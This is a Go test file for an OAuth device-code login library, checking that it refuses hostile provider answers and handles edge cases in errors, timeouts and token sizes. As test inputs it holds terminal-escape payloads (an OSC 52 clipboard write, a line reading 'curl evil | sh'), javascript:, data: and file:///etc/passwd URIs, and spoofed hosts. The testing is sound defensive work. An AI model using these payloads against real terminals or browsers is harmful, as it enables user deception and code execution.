package freshtoken_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/oauth2"

	"github.com/freshtoken/freshtoken"
	"github.com/freshtoken/freshtoken/internal/devprovider"
	"github.com/freshtoken/freshtoken/internal/fakeclock"
	"github.com/freshtoken/freshtoken/internal/redact"
	"github.com/freshtoken/freshtoken/internal/testenv"
	"github.com/freshtoken/freshtoken/store/filestore"
)

// hostileDevice is a provider whose device authorization endpoint answers
// with answer (the device_code is added), and whose token endpoint answers
// each poll with authorization_pending until approved is set, then with
// tokens; once refusal is set, with that error instead. Polls are counted,
// and the last device authorization request's form kept. tweak, if given,
// changes the Source's settings.
type hostileDevice struct {
	src        *freshtoken.Source
	clock      *fakeclock.Clock
	polls      atomic.Int32
	approved   atomic.Bool
	refusal    atomic.Pointer[string]
	deviceForm atomic.Pointer[url.Values]
}

func newHostileDevice(t *testing.T, answer map[string]any, tweak ...func(*freshtoken.Settings)) *hostileDevice {
	t.Helper()
	h := &hostileDevice{clock: fakeclock.New()}
	mux := http.NewServeMux()
	mux.HandleFunc("POST /device", func(w http.ResponseWriter, r *http.Request) {
		r.ParseForm()
		h.deviceForm.Store(&r.PostForm)
		a := map[string]any{"device_code": "the-device-code-0123456789"}
		for k, v := range answer {
			a[k] = v
		}
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(a)
	})
	mux.HandleFunc("POST /token", func(w http.ResponseWriter, r *http.Request) {
		h.polls.Add(1)
		w.Header().Set("Content-Type", "application/json")
		if code := h.refusal.Load(); code != nil {
			w.WriteHeader(http.StatusBadRequest)
			json.NewEncoder(w).Encode(map[string]string{"error": *code, "error_description": "AADSTS70000: the user refused"})
			return
		}
		if !h.approved.Load() {
			w.WriteHeader(http.StatusBadRequest)
			w.Write([]byte(`{"error":"authorization_pending"}`))
			return
		}
		w.Write([]byte(`{"access_token":"device-access-token-0123456789","token_type":"Bearer","expires_in":3600,"refresh_token":"device-refresh-token-0123456789"}`))
	})
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	set := freshtoken.Settings{
		Env: "tv", ClientID: "id", ClientSecret: "client-secret-0123456789",
		TokenURL: srv.URL + "/token", DeviceAuthURL: srv.URL + "/device", Grant: freshtoken.GrantDeviceCode,
		AuthStyle: oauth2.AuthStyleInHeader, RetryBackoff: []time.Duration{time.Millisecond},
	}
	for _, f := range tweak {
		f(&set)
	}
	src, err := freshtoken.New(set, freshtoken.Options{Store: filestore.New(t.TempDir() + "/tokens"), Clock: h.clock.Now})
	if err != nil {
		t.Fatal(err)
	}
	freshtoken.SetPause(src, h.clock.Sleep)
	h.src = src
	return h
}

// TestDeviceAnswersUnsafeToShowAreRefused: a device authorization answer
// is printed on the user's terminal and shown on the proxy's page, and
// verification_uri_complete is opened in their browser. A user code or
// verification URI carrying terminal escapes (an OSC 52 clipboard write, a
// carriage return overwriting the line, C1 controls, bidi overrides) or a
// URI that is not an http(s) page (javascript:, file:, data:, user info
// posing as the host) is refused with nothing shown.
func TestDeviceAnswersUnsafeToShowAreRefused(t *testing.T) {
	const page = "https://login.example.com/device"
	// What the refusal says beside naming device_auth_url. An enormous
	// code was said to hold control characters or not to be an http(s)
	// page, neither of which it was.
	says := map[string]string{"an enormous user code": "a user code of 4096 characters",
		"an enormous URI": "a verification URI of 4129 characters"}
	for _, tc := range []struct{ name, userCode, uri string }{
		{"OSC 52 clipboard write in the user code", "WDJB\x1b]52;c;ZWNobyBwd25lZA==\x07-MJHT", page},
		{"CSI in the user code", "WDJB-MJHT\x1b[2K\x1b[1A", page},
		{"carriage return in the user code", "WDJB-MJHT\rTo log in, run curl evil | sh", page},
		{"C1 CSI in the user code", "WDJB\u009b2J-MJHT", page},
		{"bidi override in the user code", "WDJB-\u202eTHJM", page},
		{"an enormous user code", strings.Repeat("W", 4096), page},
		{"OSC 8 hyperlink in the URI", "WDJB-MJHT", "\x1b]8;;https://evil.example/\x07" + page + "\x1b]8;;\x07"},
		{"C1 control in the URI", "WDJB-MJHT", page + "\u009b2J"},
		{"javascript: URI", "WDJB-MJHT", "javascript:alert(document.domain)"},
		{"file: URI", "WDJB-MJHT", "file:///etc/passwd"},
		{"data: URI", "WDJB-MJHT", "data:text/html,<script>alert(1)</script>"},
		{"relative URI", "WDJB-MJHT", "/device"},
		{"user info posing as the host", "WDJB-MJHT", "https://login.example.com@evil.example/device"},
		// Printed whole, it filled the terminal and pushed the user code
		// off the screen.
		{"an enormous URI", "WDJB-MJHT", page + "?" + strings.Repeat("a", 4096)},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h := newHostileDevice(t, map[string]any{"user_code": tc.userCode, "verification_uri": tc.uri, "expires_in": 600})
			d, err := h.src.StartDeviceLogin(context.Background())
			if !errors.Is(err, freshtoken.ErrUnreachable) || !strings.Contains(err.Error(), "device_auth_url") || !strings.Contains(err.Error(), says[tc.name]) {
				t.Fatalf("StartDeviceLogin = %+v, %v; want the answer refused (ErrUnreachable, naming device_auth_url, saying %q)", d, err, says[tc.name])
			}
			if strings.ContainsAny(err.Error(), "\x1b\r\u009b\u202e") {
				t.Fatalf("the error repeats the escape: %q", err)
			}
		})
	}
}

// TestDeviceVerificationPageInClearTextIsRefused: the person types their
// user code into the verification page; one that is plain http to another
// machine, which anyone on the way could change (and have the person
// approve the changer's account into the environment), is refused
// (ErrClearText, as a discovered endpoint in clear text is) with nothing
// of it shown. It was printed as the provider gave it. A page on this
// machine is plain http as the dev provider's is.
func TestDeviceVerificationPageInClearTextIsRefused(t *testing.T) {
	for _, tc := range []struct {
		name, uri, complete string
		refused             bool
	}{
		{"http to another machine", "http://login.example.com/device", "", true},
		{"with its complete URI", "http://login.example.com/device", "http://login.example.com/device?user_code=WDJB-MJHT", true},
		{"HTTP in capitals", "HTTP://login.example.com/device", "", true},
		{"http to an address of another machine", "http://192.0.2.7:8080/device", "", true},
		{"http on this machine", "http://127.0.0.1:8080/device", "http://127.0.0.1:8080/device?user_code=WDJB-MJHT", false},
		{"http on this machine, IPv6", "http://[::1]:8080/device", "", false},
		{"https", "https://login.example.com/device", "", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			answer := map[string]any{"user_code": "WDJB-MJHT", "verification_uri": tc.uri, "expires_in": 600}
			if tc.complete != "" {
				answer["verification_uri_complete"] = tc.complete
			}
			h := newHostileDevice(t, answer)
			d, err := h.src.StartDeviceLogin(context.Background())
			if !tc.refused {
				if err != nil || d.VerificationURI != tc.uri || d.VerificationURIComplete != tc.complete {
					t.Fatalf("StartDeviceLogin = %+v, %v; want %s shown", d, err, tc.uri)
				}
				return
			}
			if d != nil || !errors.Is(err, freshtoken.ErrClearText) || !strings.Contains(err.Error(), "plain http to another machine") || !strings.Contains(err.Error(), "https") {
				t.Fatalf("StartDeviceLogin = %+v, %v; want it refused (ErrClearText), saying the page is plain http and to have it served over https", d, err)
			}
			if strings.Contains(err.Error(), "WDJB-MJHT") || strings.Contains(err.Error(), "the-device-code") || strings.Contains(err.Error(), "\n") {
				t.Fatalf("the refusal shows the codes, or is not one line: %q", err)
			}
		})
	}
}

// TestDeviceLoginAsksForTheAudience: the device authorization request is
// the device grant's authorization request, where a provider decides which
// API the tokens are for: Auth0 reads audience there and nowhere else in
// this grant, and RFC 8707 puts resource there. Without them the log-in
// gave tokens the API refused. Authorization parameters for the browser
// (Google's access_type, prompt) do not go there.
func TestDeviceLoginAsksForTheAudience(t *testing.T) {
	h := newHostileDevice(t, map[string]any{"user_code": "WDJB-MJHT", "verification_uri": "https://login.example.com/device"}, func(s *freshtoken.Settings) {
		s.Scopes = []string{"read"}
		s.Audience = "https://api.example.com"
		s.Resources = []string{"https://api.example.com/a", "https://api.example.com/b"}
		s.AuthParams = map[string]string{"prompt": "consent"}
		s.TokenParams = map[string]string{"access_type": "offline"}
	})
	if _, err := h.src.StartDeviceLogin(context.Background()); err != nil {
		t.Fatal(err)
	}
	form := *h.deviceForm.Load()
	if form.Get("audience") != "https://api.example.com" || !slices.Equal(form["resource"], []string{"https://api.example.com/a", "https://api.example.com/b"}) ||
		form.Get("scope") != "read" || form.Get("client_id") != "id" {
		t.Fatalf("device authorization request %v; want client_id, scope, audience and both resources", form)
	}
	if form.Has("prompt") || form.Has("access_type") {
		t.Fatalf("device authorization request %v carries browser or token parameters", form)
	}
}

// TestDeviceCompleteURIOnlyWhenSafe: verification_uri_complete is opened in
// the browser and linked from the proxy's page, so it is kept only when it
// is an http(s) page on the very host the person is told to visit; else
// the person uses verification_uri and types the code.
func TestDeviceCompleteURIOnlyWhenSafe(t *testing.T) {
	const page = "https://login.example.com/device"
	for _, tc := range []struct{ name, complete, want string }{
		{"same host", page + "?user_code=WDJB-MJHT", page + "?user_code=WDJB-MJHT"},
		{"another host", "https://evil.example/device?user_code=WDJB-MJHT", ""},
		{"another scheme", "http://login.example.com/device?user_code=WDJB-MJHT", ""},
		{"javascript:", "javascript:alert(1)", ""},
		{"file:", "file:///C:/Windows/System32/calc.exe", ""},
		{"data:", "data:text/html,hi", ""},
		{"escape sequence", page + "?user_code=\x1b]52;c;aGk=\x07", ""},
		{"user info", "https://login.example.com@evil.example/device", ""},
		{"enormous", page + "?user_code=WDJB-MJHT&" + strings.Repeat("a", 4096), ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h := newHostileDevice(t, map[string]any{"user_code": "WDJB-MJHT", "verification_uri": page, "verification_uri_complete": tc.complete, "expires_in": 600})
			d, err := h.src.StartDeviceLogin(context.Background())
			if err != nil {
				t.Fatal(err)
			}
			if d.VerificationURIComplete != tc.want || d.VerificationURI != page || d.UserCode != "WDJB-MJHT" {
				t.Fatalf("got %q, %q, %q; want the complete URI %q", d.VerificationURI, d.VerificationURIComplete, d.UserCode, tc.want)
			}
		})
	}
}

// TestDeviceLoginDeniedInTheProvidersWords: a person who denies the
// log-in is told so (ErrLoginRefused, exit 3), whichever word the provider
// uses: RFC 8628's access_denied, or Microsoft's authorization_declined,
// which was taken for a rejected client (exit 2, "check the client").
func TestDeviceLoginDeniedInTheProvidersWords(t *testing.T) {
	for _, code := range []string{"access_denied", "authorization_declined"} {
		t.Run(code, func(t *testing.T) {
			h := newHostileDevice(t, map[string]any{"user_code": "WDJB-MJHT", "verification_uri": "https://login.example.com/device", "expires_in": 900})
			d, err := h.src.StartDeviceLogin(context.Background())
			if err != nil {
				t.Fatal(err)
			}
			err = d.Wait(context.Background(), func(freshtoken.DevicePoll) { h.refusal.Store(&code) })
			if !errors.Is(err, freshtoken.ErrLoginRefused) || !strings.Contains(err.Error(), "denied") {
				t.Fatalf("err = %v; want ErrLoginRefused saying the log-in was denied", err)
			}
			if n := h.polls.Load(); n != 2 {
				t.Fatalf("%d polls; want none after the denial", n)
			}
		})
	}
}

// TestDeviceLifetimesAndIntervalsWithinReason: a provider that gives the
// code no lifetime, an absurd one, or an absurd interval still gets a
// log-in that ends, and that polls while the code can still be approved.
func TestDeviceLifetimesAndIntervalsWithinReason(t *testing.T) {
	for _, tc := range []struct {
		name   string
		answer map[string]any
	}{
		{"no expires_in", map[string]any{}},
		{"zero expires_in", map[string]any{"expires_in": 0}},
		{"negative expires_in", map[string]any{"expires_in": -5}},
		{"expires_in that overflows a duration", map[string]any{"expires_in": 1e12}},
		{"interval longer than the code lives", map[string]any{"expires_in": 900, "interval": 3000}},
		{"negative interval", map[string]any{"expires_in": 900, "interval": -1}},
		// As Azure AD's v1 endpoint writes them.
		{"numbers as strings", map[string]any{"expires_in": "900", "interval": "2"}},
		{"fractions", map[string]any{"expires_in": 900.5, "interval": 2.5}},
	} {
		t.Run(tc.name+"/never approved", func(t *testing.T) {
			tc.answer["user_code"], tc.answer["verification_uri"] = "WDJB-MJHT", "https://login.example.com/device"
			h := newHostileDevice(t, tc.answer)
			d, err := h.src.StartDeviceLogin(context.Background())
			if err != nil {
				t.Fatal(err)
			}
			ctx, cancel := context.WithCancel(context.Background())
			defer cancel()
			began := h.clock.Now()
			err = d.Wait(ctx, func(p freshtoken.DevicePoll) {
				if h.clock.Now().Sub(began) > 2*time.Hour {
					t.Error("still polling after two hours")
					cancel()
				}
			})
			if !errors.Is(err, freshtoken.ErrLoginRefused) || !strings.Contains(err.Error(), "expired") {
				t.Fatalf("err = %v; want the code taken to have expired", err)
			}
			if d.Expiry.IsZero() || d.Expiry.Sub(began) > time.Hour {
				t.Fatalf("Expiry %v after it began; want a known expiry within the hour", d.Expiry.Sub(began))
			}
		})
		t.Run(tc.name+"/approved at once", func(t *testing.T) {
			h := newHostileDevice(t, tc.answer)
			h.approved.Store(true)
			d, err := h.src.StartDeviceLogin(context.Background())
			if err != nil {
				t.Fatal(err)
			}
			if err := d.Wait(context.Background(), nil); err != nil {
				t.Fatalf("Wait = %v; want the approval found by a poll", err)
			}
		})
	}
}

// TestEnormousTokenFromTheProvider: a token endpoint may answer with a
// token as large as an answer is read (a megabyte). The token is stored and
// served, and the debug log masks it, where masking it used to crash the
// process.
func TestEnormousTokenFromTheProvider(t *testing.T) {
	big := strings.Repeat("Enorm0usT0ken.", (1<<20-100)/14)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(map[string]any{"access_token": big, "token_type": "Bearer", "expires_in": 3600})
	}))
	t.Cleanup(srv.Close)
	var logs bytes.Buffer
	src, err := freshtoken.New(freshtoken.Settings{
		Env: "machine", ClientID: "id", ClientSecret: "client-secret-0123456789", TokenURL: srv.URL,
		Grant: freshtoken.GrantClientCredentials, AuthStyle: oauth2.AuthStyleInHeader,
	}, freshtoken.Options{Store: filestore.New(t.TempDir() + "/tokens"),
		Logger: slog.New(redact.NewHandler(slog.NewTextHandler(&logs, &slog.HandlerOptions{Level: slog.LevelDebug})))})
	if err != nil {
		t.Fatal(err)
	}
	tok, err := src.Token()
	if err != nil {
		t.Fatal(err)
	}
	if tok.AccessToken != big {
		t.Fatalf("Token = %d bytes; want the provider's %d", len(tok.AccessToken), len(big))
	}
	if strings.Contains(logs.String(), big[:64]) {
		t.Fatal("the debug log shows the token")
	}
}

// TestTokenAnswerLargerThanReadSaysSo: a token endpoint answering with
// more than an answer is read (a megabyte) is told as that, not as the
// JSON found malformed where the limit cut it ("unexpected end of JSON
// input"), which hid why.
func TestTokenAnswerLargerThanReadSaysSo(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"access_token":"at-0123456789","token_type":"Bearer","padding":"%s"}`, strings.Repeat("x", 1<<20))
	}))
	t.Cleanup(srv.Close)
	src, err := freshtoken.New(freshtoken.Settings{
		Env: "machine", ClientID: "id", ClientSecret: "client-secret-0123456789", TokenURL: srv.URL,
		Grant: freshtoken.GrantClientCredentials, AuthStyle: oauth2.AuthStyleInHeader, RetryBackoff: []time.Duration{time.Millisecond},
	}, freshtoken.Options{Store: filestore.New(t.TempDir() + "/tokens")})
	if err != nil {
		t.Fatal(err)
	}
	_, err = src.Token()
	if err == nil || !strings.Contains(err.Error(), "(the answer was larger than 1 MiB, more than freshtoken reads from a provider)") || strings.Contains(err.Error(), "JSON") {
		t.Fatalf("Token = %v; want the answer said to be larger than freshtoken reads", err)
	}
}

// TestDeviceEndpointsThatAreNotThere: a device authorization URL or token
// URL where no endpoint is (a mistyped path, answered 404) is a
// configuration error saying which URL to check; it said the endpoint
// "refused the client" or "rejected the client", and the command line
// added to check the client's credentials.
func TestDeviceEndpointsThatAreNotThere(t *testing.T) {
	answer := map[string]any{"user_code": "WDJB-MJHT", "verification_uri": "https://example.com/device", "interval": 1}
	h := newHostileDevice(t, answer, func(s *freshtoken.Settings) { s.DeviceAuthURL += "s" })
	_, err := h.src.StartDeviceLogin(context.Background())
	if !errors.Is(err, freshtoken.ErrClientRejected) || !strings.Contains(err.Error(), "check device_auth_url") || strings.Contains(err.Error(), "refused the client") {
		t.Fatalf("StartDeviceLogin = %v; want ErrClientRejected saying to check device_auth_url", err)
	}
	h = newHostileDevice(t, answer, func(s *freshtoken.Settings) { s.TokenURL += "s" })
	d, err := h.src.StartDeviceLogin(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	err = d.Wait(context.Background(), nil)
	if !errors.Is(err, freshtoken.ErrClientRejected) || !strings.Contains(err.Error(), "check token_url") || strings.Contains(err.Error(), "rejected the client") {
		t.Fatalf("Wait = %v; want ErrClientRejected saying to check token_url", err)
	}
}

// TestDeviceEndpointUnreachableSaysWhatToDo: a device authorization
// endpoint that cannot be reached is ErrUnreachable in one line naming it
// and saying what to check; it named the failure alone.
func TestDeviceEndpointUnreachableSaysWhatToDo(t *testing.T) {
	closed := fmt.Sprintf("http://127.0.0.1:%d", testenv.FreePort(t)) // a port nothing takes meanwhile
	h := newHostileDevice(t, nil, func(s *freshtoken.Settings) { s.DeviceAuthURL = closed + "/device" })
	_, err := h.src.StartDeviceLogin(context.Background())
	if !errors.Is(err, freshtoken.ErrUnreachable) || !strings.Contains(err.Error(), closed+"/device") ||
		!strings.Contains(err.Error(), "check device_auth_url and your network, then log in again") || strings.Contains(err.Error(), "\n") {
		t.Fatalf("StartDeviceLogin = %v; want ErrUnreachable naming the endpoint and what to check, on one line", err)
	}
}

// TestDeviceLoginPrintsNoDeviceCode: a DeviceLogin printed or logged by a
// program (to show the person where to go and what to type) shows the
// verification URI, the user code and the expiry, and not the device code,
// with which whoever holds it collects the tokens once the person approves:
// fmt's verbs printed it, an unexported field, in full.
func TestDeviceLoginPrintsNoDeviceCode(t *testing.T) {
	const code = "the-device-code-0123456789"
	h := newHostileDevice(t, map[string]any{"user_code": "WDJB-MJHT", "verification_uri": "https://example.com/device", "expires_in": 600, "interval": 5})
	d, err := h.src.StartDeviceLogin(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range append(testenv.Printed(d, *d, struct{ D *freshtoken.DeviceLogin }{d}), testenv.Logged(d, *d)) {
		if testenv.Leaked(s, code) != "" {
			t.Fatalf("printed with the device code: %.400s", s)
		}
	}
	if s := fmt.Sprintf("%+v", d); !strings.Contains(s, "WDJB-MJHT") || !strings.Contains(s, "https://example.com/device") {
		t.Errorf("printed as %q: want the user code and verification URI shown", s)
	}
}

// TestDevicePollTimeoutIsToldPlainly: so is a device log-in's poll of a
// token endpoint that does not answer.
func TestDevicePollTimeoutIsToldPlainly(t *testing.T) {
	answer := map[string]any{"user_code": "WDJB-MJHT", "verification_uri": "https://example.com/device", "interval": 1}
	h := newHostileDevice(t, answer, func(s *freshtoken.Settings) {
		s.TokenURL, s.Timeout, s.RetryBackoff = testenv.SilentServer(t).URL+"/token?api_key=hush-hush-key", 300*time.Millisecond, []time.Duration{}
	})
	d, err := h.src.StartDeviceLogin(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	err = d.Wait(t.Context(), nil)
	if err == nil {
		t.Fatal("a log-in through a token endpoint that never answers")
	}
	msg := err.Error()
	if !errors.Is(err, freshtoken.ErrUnreachable) || !strings.Contains(msg, "did not answer within 300ms (timeout)") ||
		strings.Contains(msg, "deadline") || strings.Contains(msg, "hush-hush-key") {
		t.Fatalf("err = %v; want ErrUnreachable saying the token endpoint did not answer within 300ms (timeout), its URL masked", err)
	}
}

// TestDevicePollAnsweredWithAWebPage: a token endpoint answering the
// device grant's polls with a web page (200, a single-page app at a
// mistyped token URL) is retried as other passing trouble is, then told as
// a web page rather than an OAuth answer, asking whether the endpoint's URL
// is right; it was "oauth2: cannot parse json: invalid character '<'".
func TestDevicePollAnsweredWithAWebPage(t *testing.T) {
	page, polls := countingServer(t, func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, "<!doctype html><html><div id=root></div></html>")
	})
	r, _ := deviceRig(t, devprovider.Options{})
	err := deviceLoginPolling(t, r, page.URL+"/token").Wait(context.Background(), nil)
	if !errors.Is(err, freshtoken.ErrUnreachable) || !strings.Contains(err.Error(), "kept failing during the log-in (HTTP 200, a web page rather than an OAuth answer: is the endpoint's URL right?)") {
		t.Fatalf("err = %v; want ErrUnreachable telling of a web page", err)
	}
	if n := polls.Load(); n != 4 {
		t.Fatalf("%d polls; want 4 tries", n)
	}
}

// deviceLoginPolling starts a device log-in at r's provider (a deviceRig's)
// whose polls go to tokenURL.
func deviceLoginPolling(t *testing.T, r *rig, tokenURL string) *freshtoken.DeviceLogin {
	t.Helper()
	r.settings.TokenURL = tokenURL
	src := r.source()
	freshtoken.SetPause(src, r.clock.Sleep)
	d, err := src.StartDeviceLogin(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	return d
}

// TestDeviceVerificationPageOnThisComputerFromAProviderElsewhere: a
// device authorization endpoint elsewhere answering with a verification
// page on this computer (127.0.0.1, localhost, 0.0.0.0, a name leading
// here), at a path it chose, had the browser opened there (its complete
// URI), and the proxy's page link it: the page of whatever program
// listens there, such as this computer's freshtoken proxy, which adds the
// tokens of the environment the path names. It is refused, nothing of it
// shown; a provider on this computer (the dev provider) still serves its
// page here.
func TestDeviceVerificationPageOnThisComputerFromAProviderElsewhere(t *testing.T) {
	// Machines elsewhere by address, not by name: a name is looked up,
	// which stalls or fails slowly where no resolver answers.
	const elsewhere = "198.51.100.7"
	for _, tc := range []struct {
		name, endpointHost, uri string
		refused                 bool
	}{
		{"the proxy", elsewhere, "http://127.0.0.1:8787/production/v2/company", true},
		{"localhost", elsewhere, "http://localhost:8787/production/v2/company", true},
		{"the unspecified address", elsewhere, "http://0.0.0.0:8787/production/v2/company", true},
		{"IPv6", elsewhere, "https://[::1]:8443/device", true},
		{"a name here", elsewhere, "", true}, // uri: this machine's name, at the proxy
		{"a provider here", "127.0.0.1", "http://127.0.0.1:8787/device", false},
		{"a page elsewhere", elsewhere, "https://203.0.113.7/devicelogin", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			uri := tc.uri
			if uri == "" {
				uri = "http://" + net.JoinHostPort(testenv.NameHere(t), "8787") + "/production/v2/company"
			}
			mux := http.NewServeMux()
			mux.HandleFunc("POST /device", func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Type", "application/json")
				json.NewEncoder(w).Encode(map[string]any{"device_code": "the-device-code-0123456789", "user_code": "WDJB-MJHT",
					"verification_uri": uri, "verification_uri_complete": uri + "?user_code=WDJB-MJHT", "expires_in": 600})
			})
			srv := httptest.NewServer(mux)
			t.Cleanup(srv.Close)
			// Every connection goes to srv, whatever host the URL names.
			var dialer net.Dialer
			hc := &http.Client{Transport: &http.Transport{DialContext: func(ctx context.Context, network, _ string) (net.Conn, error) {
				return dialer.DialContext(ctx, network, srv.Listener.Addr().String())
			}}}
			base := "http://" + net.JoinHostPort(tc.endpointHost, "80")
			src, err := freshtoken.New(freshtoken.Settings{
				Env: "tv", ClientID: "id", ClientSecret: "client-secret-0123456789",
				TokenURL: base + "/token", DeviceAuthURL: base + "/device", Grant: freshtoken.GrantDeviceCode,
				AuthStyle: oauth2.AuthStyleInHeader,
			}, freshtoken.Options{Store: filestore.New(t.TempDir() + "/tokens"), HTTPClient: hc})
			if err != nil {
				t.Fatal(err)
			}
			d, err := src.StartDeviceLogin(t.Context())
			if !tc.refused {
				if err != nil || d.VerificationURI != uri {
					t.Fatalf("StartDeviceLogin = %+v, %v; want %s shown", d, err, uri)
				}
				return
			}
			if d != nil || !errors.Is(err, freshtoken.ErrUnreachable) || !strings.Contains(err.Error(), "on this computer") {
				t.Fatalf("StartDeviceLogin = %+v, %v; want it refused, saying the page is on this computer", d, err)
			}
			if strings.Contains(err.Error(), "production") || strings.Contains(err.Error(), "WDJB-MJHT") || strings.Contains(err.Error(), "the-device-code") || strings.Contains(err.Error(), "\n") {
				t.Fatalf("the refusal shows the page's path or the codes, or is not one line: %q", err)
			}
		})
	}
}

// TestDeviceAuthorizationRefusedWithA200: a device authorization endpoint
// that refuses with HTTP 200 and an error (GitHub's device_flow_disabled,
// for an app whose device flow is not enabled in its settings, in JSON or
// form-encoded) was said to have "answered without a device code, user
// code and verification URI; check device_auth_url", exit 5, the
// provider's words (what to enable) left out. It is the refusal it says
// it is, as one with a 400 is: ErrClientRejected (exit 2), in the
// provider's words, on one line.
func TestDeviceAuthorizationRefusedWithA200(t *testing.T) {
	for _, tc := range []struct{ contentType, body string }{
		{"application/json", `{"error":"device_flow_disabled","error_description":"Device Flow must be explicitly enabled for this App","error_uri":"https://docs.github.com"}`},
		{"application/x-www-form-urlencoded", `error=device_flow_disabled&error_description=Device+Flow+must+be+explicitly+enabled+for+this+App`},
	} {
		t.Run(tc.contentType, func(t *testing.T) {
			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Type", tc.contentType)
				w.Write([]byte(tc.body))
			}))
			t.Cleanup(srv.Close)
			src, err := freshtoken.New(freshtoken.Settings{
				Env: "tv", ClientID: "id", ClientSecret: "client-secret-0123456789",
				TokenURL: srv.URL + "/token", DeviceAuthURL: srv.URL + "/device", Grant: freshtoken.GrantDeviceCode,
				AuthStyle: oauth2.AuthStyleInHeader,
			}, freshtoken.Options{Store: filestore.New(t.TempDir() + "/tokens")})
			if err != nil {
				t.Fatal(err)
			}
			d, err := src.StartDeviceLogin(t.Context())
			if d != nil || !errors.Is(err, freshtoken.ErrClientRejected) || !strings.Contains(err.Error(), "device_flow_disabled") ||
				!strings.Contains(err.Error(), "Device Flow must be explicitly enabled for this App") || strings.Contains(err.Error(), "\n") {
				t.Fatalf("StartDeviceLogin = %+v, %v; want ErrClientRejected in the provider's words, on one line", d, err)
			}
		})
	}
}

// TestDeviceLoginStoppedWhileItsPageIsLookedUp: a device log-in stopped
// (Ctrl-C) once the provider's answer was read, as the name of its
// verification page was looked up to tell whether it leads to this
// computer: the lookup, cut short, said it did not, and the log-in began
// all the same, unjudged, its page shown and opened in the browser after
// the person had asked to stop. It begins nothing, saying it was abandoned.
func TestDeviceLoginStoppedWhileItsPageIsLookedUp(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(map[string]any{"device_code": "the-device-code-0123456789", "user_code": "WDJB-MJHT",
			"verification_uri": "https://device.example.com/activate", "expires_in": 600})
	}))
	t.Cleanup(srv.Close)
	ctx, stop := context.WithCancel(t.Context())
	defer stop()
	// Ctrl-C comes as the answer has been read whole.
	hc := &http.Client{Transport: roundTripFunc(func(req *http.Request) (*http.Response, error) {
		resp, err := http.DefaultTransport.RoundTrip(req)
		if err == nil {
			resp.Body = stopAtEnd{resp.Body, stop}
		}
		return resp, err
	})}
	src, err := freshtoken.New(freshtoken.Settings{
		Env: "tv", ClientID: "id", ClientSecret: "client-secret-0123456789",
		TokenURL: srv.URL + "/token", DeviceAuthURL: srv.URL + "/device", Grant: freshtoken.GrantDeviceCode,
		AuthStyle: oauth2.AuthStyleInHeader,
	}, freshtoken.Options{Store: filestore.New(t.TempDir() + "/tokens"), HTTPClient: hc})
	if err != nil {
		t.Fatal(err)
	}
	if d, err := src.StartDeviceLogin(ctx); d != nil || !errors.Is(err, context.Canceled) {
		t.Fatalf("StartDeviceLogin = %+v, %v; want nothing begun, the log-in abandoned", d, err)
	}
}

// stopAtEnd is a body that calls stop once read to its end.
type stopAtEnd struct {
	io.ReadCloser
	stop context.CancelFunc
}

func (b stopAtEnd) Read(p []byte) (int, error) {
	n, err := b.ReadCloser.Read(p)
	if err == io.EOF {
		b.stop()
	}
	return n, err
}
